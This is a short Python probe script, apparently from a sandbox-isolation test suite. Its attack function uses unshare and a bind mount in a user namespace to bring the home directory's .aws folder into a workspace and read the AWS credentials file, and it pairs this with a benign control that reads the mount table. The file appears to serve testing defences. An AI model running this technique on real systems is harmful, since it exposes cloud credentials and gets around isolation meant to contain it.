"""P5: bind-mount the folder of the credentials into the workspace, in a user namespace where root is not at hand."""

import os

from attempt import World, run, syscall
from names import CLONE_NEWNS, CLONE_NEWUSER, MOUNT, MS_BIND, UNSHARE


def attack(world: World) -> str:
    target = world.workspace / "mounted"
    target.mkdir(exist_ok=True)
    syscall(UNSHARE, CLONE_NEWNS | (CLONE_NEWUSER if os.geteuid() else 0))
    syscall(MOUNT, b"none", b"/", None, 1 << 18 | 1 << 14, None)  # private and recursive: nothing leaks out
    syscall(MOUNT, str(world.home / ".aws").encode(), str(target).encode(), None, MS_BIND, None)
    return (target / "credentials").read_text()


def twin(world: World) -> str:
    return open("/proc/self/mounts", encoding="utf-8").read()


run("P5", attack, twin)
